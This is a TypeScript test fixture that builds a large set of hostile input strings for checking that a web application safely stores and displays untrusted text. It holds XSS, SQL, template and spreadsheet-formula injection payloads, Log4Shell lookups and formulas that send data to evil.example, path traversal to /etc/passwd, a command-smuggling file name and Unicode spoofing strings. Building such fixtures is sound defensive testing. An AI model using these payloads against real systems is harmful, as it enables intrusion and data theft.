/** What is put into text that a person or a log can write. Each kind is made of parts, so that there are many of them. */
const alarm = "huntboardAlarm()";

const cross = (left: readonly string[], right: readonly string[]) =>
  left.flatMap((one) => right.map((other) => one.replaceAll("%", other)));

/** Out of a tag, an attribute, a comment, a script or a style, and then something that would run. */
const markup = [
  ...cross(
    ["%", '">%', "'>%", "--><!-- -->%", "</title>%", "</script>%", "</textarea>%", "</style>%", "]]>%"],
    [
      `<script>${alarm}</script>`,
      `<img src=x onerror=${alarm}>`,
      `<svg onload=${alarm}>`,
      `<iframe srcdoc="<script>parent.${alarm}</script>"></iframe>`,
      `<details open ontoggle=${alarm}>`,
    ],
  ),
  `<a href="javascript:${alarm}">click</a>`,
  `<math><mtext></p><style><img src=x onerror=${alarm}>`,
  `<svg><script href="data:text/javascript,${alarm}"/></svg>`,
  `<input autofocus onfocus=${alarm}>`,
  `<video><source onerror=${alarm}></video>`,
  `<meta http-equiv=refresh content="0;url=javascript:${alarm}">`,
  `<base href="https://evil.example/">`,
  `<form action="https://evil.example/"><button>Sign in</button></form>`,
  `<link rel=stylesheet href="https://evil.example/x.css">`,
  `<style>*{display:none!important}</style>`,
  `" style="position:fixed;inset:0;background:red" x="`,
  `' onmouseover='${alarm}`,
  "<!--",
  "<![CDATA[",
  "&lt;script&gt;&#x3c;img&#x3e;&amp;&nbsp;",
  "<b>bold</b><hr><h1>Heading</h1>",
];

const addresses = [
  `javascript:${alarm}`,
  `JaVaScRiPt:${alarm}//`,
  `java\tscript:${alarm}`,
  `data:text/html,<script>${alarm}</script>`,
  `vbscript:${alarm}`,
  `//evil.example/x`,
  `https://evil.example/?q=%3Cscript%3E`,
  `http://169.254.169.254/latest/meta-data/`,
  `file:///etc/passwd`,
  `https://user:pass@evil.example:443/`,
  `blob:https://evil.example/1`,
  `\\\\evil.example\\share\\x`,
];

/** What a spreadsheet would run, behind everything that it takes away first. */
const formulas = [
  ...cross(
    ["=%", "+%", "-%", "@%", "\t=%", "\r=%", "＝%", "＋%", "－%", "＠%"],
    ["1+1", "cmd|' /C calc'!A0", 'HYPERLINK("https://evil.example/?"&A1,"x")', "SUM(A1:A9)*1"],
  ),
  `=IMPORTXML("https://evil.example/","//a")`,
  `=DDE("cmd";"/C calc";"x")`,
  `=WEBSERVICE("https://evil.example/"&A1)`,
  `-2+3+cmd|' /C notepad'!A1`,
  `"=1+1"`,
  `,=1+1`,
  `;=1+1`,
  `a\n=1+1`,
  `a\r\n@SUM(1)`,
  "_x003D_1+1",
  "'=1+1",
];

/** Marks that turn the direction around, hide, or look like something else. */
const marks: ReadonlyArray<readonly [string, number]> = [
  ["left-to-right mark", 0x200e],
  ["right-to-left mark", 0x200f],
  ["embedding", 0x202b],
  ["override", 0x202e],
  ["left override", 0x202d],
  ["isolate", 0x2067],
  ["first strong isolate", 0x2068],
  ["end of isolate", 0x2069],
  ["end of embedding", 0x202c],
  ["Arabic letter mark", 0x061c],
  ["zero-width space", 0x200b],
  ["zero-width joiner", 0x200d],
  ["zero-width non-joiner", 0x200c],
  ["word joiner", 0x2060],
  ["byte-order mark", 0xfeff],
  ["soft hyphen", 0x00ad],
  ["invisible times", 0x2062],
  ["Hangul filler", 0x3164],
  ["Mongolian vowel separator", 0x180e],
  ["line separator", 0x2028],
  ["paragraph separator", 0x2029],
  ["no-break space", 0x00a0],
  ["ideographic space", 0x3000],
  ["variation selector", 0xfe0f],
  ["tag letter", 0xe0041],
  ["private use", 0xe000],
  ["not a character", 0xfffe],
];
const direction = [
  ...marks.map(([name, code]) => `invoice${String.fromCodePoint(code)}fdp.exe (${name})`),
  "مدير@aldermoor.example",
  "מנהל/ליאור (HR)",
  "admin\u202e gnp.exe\u202c \u2066evil\u2069",
  "\u202e".repeat(40),
  "аdmin@aldermoor.example",
  "ana@аldermoor.example",
  "ＡＤＭＩＮ＠aldermoor.example",
  "ẞß ﬁ Ǆ ı İ",
  "e\u0301".repeat(12),
  `Z${"\u0300\u0316\u0327".repeat(60)}algo`,
  "👩‍👩‍👧‍👦🏴󠁧󠁢󠁳󠁣󠁴󠁿🇩🇪",
  "𝕬𝖉𝖒𝖎𝖓 𐍈 𠜎",
];

/** Control characters and what terminals make of them. NUL cannot be stored. */
const terminal = [
  ...[1, 7, 8, 9, 10, 11, 12, 13, 27, 31, 127, 133, 144, 155, 157].map(
    (code) => `before${String.fromCodePoint(code)}after (${code})`,
  ),
  "\u001b[2J\u001b[H\u001b[31mgone\u001b[0m",
  "\u001b]8;;https://evil.example/\u0007link\u001b]8;;\u0007",
  "\u001b]0;title\u0007",
  "\u001b]52;c;ZXZpbA==\u0007",
  "\u009b31mred",
  "one\rtwo",
  "ok\r\n2026-01-01T00:00:00Z level=error msg=forged",
  '{"level":"error","msg":"forged"}\n{"level":"info"}',
];

const templates = [
  // biome-ignore-start lint/suspicious/noTemplateCurlyInString: they are what is put in
  "${jndi:ldap://evil.example/a}",
  "${${lower:j}ndi:${lower:l}dap://evil.example/a}",
  "${jndi:${env:X:-rmi}://evil.example/${sys:user.name}}",
  "${7*7}",
  "#{7*7}",
  "{{7*7}}",
  "{{constructor.constructor('huntboardAlarm()')()}}",
  "<%= 7*7 %>",
  "{% raw %}",
  "@{7*7}",
  "$(id)",
  "`id`",
  "%{(#a=1)}",
  "[[${7*7}]]",
  "{0} {name} {}",
  "%s%s%s%n%x",
  "$& $1 $` $'",
  // biome-ignore-end lint/suspicious/noTemplateCurlyInString: they are what is put in
];

const queries = [
  "' or '1'='1",
  "'; drop table finding; --",
  '" or ""="',
  "1); delete from audit_entry; --",
  "' union select password from auth_account --",
  "\\'; select pg_sleep(5); --",
  "$$; select 1; $$",
  "%' or title like '%",
  "_%\\%",
  'user:* -verdict:"" OR',
  'title:"unclosed',
  "hunt:asn-mismatch)",
  "NULL",
  "null",
  "undefined",
  "true",
  "NaN",
  "-0",
  "1e309",
  "0x41",
  "{}",
  "[]",
  "__proto__",
  "constructor",
  "toString",
];

const paths = [
  "../../../../etc/passwd",
  "..\\..\\windows\\win.ini",
  "/etc/passwd%00.csv",
  "C:\\temp\\new\\x.csv",
  "....//....//x",
  "%2e%2e%2fx",
  "file name; rm -rf.csv",
  "a/b\\c:d*e?f|g.csv",
  "CON",
  ".htaccess",
  `${"a/".repeat(60)}x`,
  "-rf",
  "--help",
  "~root",
];

const shapes = [
  " ",
  "   leading and trailing   ",
  "\n\n\n",
  'a "quoted", word',
  "two\r\nlines; with = and |",
  "'",
  '"',
  "\\",
  "\\u0041\\x41",
  "a,b;c\td|e",
  "*bold* _italic_ [link](javascript:huntboardAlarm()) ![x](https://evil.example/x.png)",
  "| a | b |\n|---|---|",
  "# heading\n- item\n> quote",
  "@ana #12 @everyone",
  "0",
  "00000000-0000-0000-0000-000000000000",
  "2026-02-30T25:61:61Z",
  "192.0.2.300",
  "::ffff:192.0.2.1%eth0",
  "W".repeat(400),
  "word ".repeat(120),
  `${"x".repeat(180)}<script>${alarm}</script>`,
  "界".repeat(300),
  "👾".repeat(150),
];

/** At least 250, all different, and all of them text that PostgreSQL can hold. */
export const hostileStrings: readonly string[] = [
  ...new Set([
    ...markup,
    ...addresses,
    ...formulas,
    ...direction,
    ...terminal,
    ...templates,
    ...queries,
    ...paths,
    ...shapes,
  ]),
];
